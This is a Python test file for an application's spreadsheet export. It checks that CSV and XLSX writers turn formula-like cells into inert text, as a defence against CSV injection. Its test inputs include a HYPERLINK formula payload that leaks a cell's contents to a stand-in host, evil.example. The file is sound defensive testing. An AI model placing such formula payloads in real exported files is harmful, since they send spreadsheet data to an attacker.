"""The writer every export uses: text that looks like a formula stays text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from app.spreadsheets import csv_text, csv_writer, workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/",
    "0012345",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_that_looks_like_a_formula_is_quoted(value: str) -> None:
    stream = io.StringIO()
    csv_writer(stream).writerow([value, 12, -3])
    (row,) = csv.reader(io.StringIO(stream.getvalue()))
    if value.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert row[0] == "'" + value
    else:
        assert row[0] == value
    assert row[1:] == ["12", "-3"]  # numbers stay numbers


def test_plain_text_is_untouched() -> None:
    assert csv_text("历下区不动产登记中心") == "历下区不动产登记中心"
    assert csv_text(None) is None


def test_an_xlsx_cell_that_looks_like_a_formula_is_a_text_cell(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    with workbook(path) as book:
        sheet = book.add_worksheet("=1+1")
        sheet.write(0, 0, HOSTILE[0])
        sheet.write_row(1, 0, HOSTILE)
        sheet.write(2, 0, "12")
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = archive.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    assert "hyperlink" not in xml.lower()
    assert "HYPERLINK" in strings  # kept as the text it is
    assert 't="s"' in xml


def test_a_quoted_csv_cell_reads_back_as_it_was() -> None:
    from app.spreadsheets import csv_cells

    stream = io.StringIO()
    csv_writer(stream).writerow(HOSTILE)
    (row,) = csv.reader(io.StringIO(stream.getvalue()))
    assert csv_cells(row) == HOSTILE
    assert csv_cells(["'quoted on purpose", "'"]) == ["'quoted on purpose", "'"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rejected_rows_with_formulas_go_out_as_text_and_come_back_whole(
    tmp_path: Path, suffix: str
) -> None:
    from app.importing import RejectedRow
    from app.importing.reader import read_table
    from ui.importing.rejected_file import write_rejected_rows

    cells = ["JN-1", "=1+1", '=HYPERLINK("http://evil.example/","x")', "+8613800000000"]
    rows = [RejectedRow(line=2, code="file_unreadable", params={"detail": "x"}, cells=cells)]
    path = tmp_path / f"rejected{suffix}"
    write_rejected_rows(path, ["行", "原因", "业务编号", "A", "B", "电话"], rows)
    if suffix == ".csv":
        assert "'=1+1" in path.read_text(encoding="utf-8-sig")
    else:
        with zipfile.ZipFile(path) as archive:
            assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    table = read_table(path)
    assert [str(c) for c in table.rows[1][1][2:]] == cells
